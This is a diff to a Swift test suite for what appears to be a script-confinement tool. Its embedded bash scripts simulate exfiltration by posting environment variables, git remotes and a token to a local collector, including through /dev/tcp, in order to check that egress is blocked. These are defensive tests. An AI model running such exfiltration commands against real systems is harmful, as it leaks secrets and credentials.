@@ -140,8 +140,8 @@ struct ConfinementTests {
     private func egressScript() -> String {
         """
         #!/bin/bash
-        curl -fsS --cacert "$SSL_CERT_FILE" https://127.0.0.1:\(server.trustedPort)/files/payload.txt
-        curl -s -o /dev/null -w 'exfiltration: %{http_code}\\n' -d "$(env)" http://127.0.0.1:\(server.collectorPort)/upload
+        curl -fsS --cacert "$SSL_CERT_FILE" \(server.url("files/payload.txt"))
+        curl -s -o /dev/null -w 'exfiltration: %{http_code}\\n' -d "$(env)" \(server.collectorURL("upload"))
         if (echo leak > /dev/tcp/127.0.0.1/\(server.collectorPort)) 2>/dev/null; then echo "direct: connected"; else echo "direct: refused"; fi
         """
     }
@@ -172,8 +172,8 @@ struct ConfinementTests {
             #!/bin/bash
             report=$(mktemp)
             echo "coverage report" > "$report"
-            curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://127.0.0.1:\(server.collectorPort)/upload/v2 || true
-            curl -fsS --cacert "$SSL_CERT_FILE" --data-binary @"$report" https://127.0.0.1:\(server.trustedPort)/upload/v4 > /dev/null && echo uploaded
+            curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" \(server.collectorURL("upload/v2")) || true
+            curl -fsS --cacert "$SSL_CERT_FILE" --data-binary @"$report" \(server.url("upload/v4")) > /dev/null && echo uploaded
             """
         stage.pin("codecov", uploader, server: server, extra: "egress 127.0.0.1:\(server.trustedPort)\n")
         let result = stage.run("./scriptpin run codecov", extraEnvironment: ["CODECOV_TOKEN": "codecov-token-4711"])
@@ -203,7 +203,7 @@ struct ConfinementTests {
         let stage = try Stage(user: .root, server: server)
         let script = """
             #!/bin/sh
-            curl -fsS -m 5 --cacert "$SSL_CERT_FILE" https://127.0.0.1:\(server.trustedPort)/files/none.sh > /dev/null 2>&1 || echo "no network"
+            curl -fsS -m 5 --cacert "$SSL_CERT_FILE" \(server.url("files/none.sh")) > /dev/null 2>&1 || echo "no network"
             echo "proxy variables: $(env | grep -ci proxy)"
             """
         stage.pin("none", script, server: server, extra: "egress none\n")
